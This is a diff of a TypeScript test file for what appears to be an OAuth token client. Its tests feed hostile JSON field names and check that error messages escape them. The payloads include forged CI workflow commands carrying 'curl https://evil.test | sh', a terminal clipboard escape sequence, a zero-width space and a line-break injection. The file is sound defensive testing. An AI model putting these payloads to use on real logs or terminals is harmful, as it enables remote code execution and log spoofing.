@@ -189,13 +189,24 @@ const HOSTILE_TEXT: readonly FaultScenario[] = [
     expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message: /^Token endpoint answered HTTP 200 with text\/html# #\[error\]forged that is not a JSON object$/ }
   },
   {
-    name: 'a 200 without access_token whose field names forge commands: neutralised',
+    name: 'a 200 without access_token whose field names forge commands: shown escaped, on one line',
     replies: () => [{ json: { token_type: 'Bearer', '##[error]forged': 1, [`x${FORGED_COMMANDS}`]: 2, '\x1b]52;c;eA==\x07y': 3 } }],
     expect: {
       fails: 'INVALID_RESPONSE',
       status: 200,
       attempts: 1,
-      message: new RegExp(`^Token endpoint answered HTTP 200 but the response has no access_token \\(fields: token_type, # #\\[error\\]forged, x ${FORGED_SHOWN}, y\\)$`)
+      message:
+        /^Token endpoint answered HTTP 200 but the response has no access_token \(fields: token_type, # #\[error\]forged, x\\u000a::error title=Forged::run curl https:\/\/evil\.test \| sh\\u000a::stop-commands::x, \\u001b\]52;c;eA==\\u0007y\)$/
+    }
+  },
+  {
+    name: 'a 200 whose access_token field name holds a zero-width space: the name is shown with it escaped',
+    replies: () => [{ json: { 'access_\u200btoken': SECRETS.accessToken, token_type: 'Bearer' } }],
+    expect: {
+      fails: 'INVALID_RESPONSE',
+      status: 200,
+      attempts: 1,
+      message: /^Token endpoint answered HTTP 200 but the response has no access_token \(fields: access_\\u200btoken, token_type\)$/
     }
   },
   notVschar('access_token', 'a line break', `${SECRETS.accessToken}\nINJECTED=1`, ACCESS_TOKEN_NOT_VSCHAR),
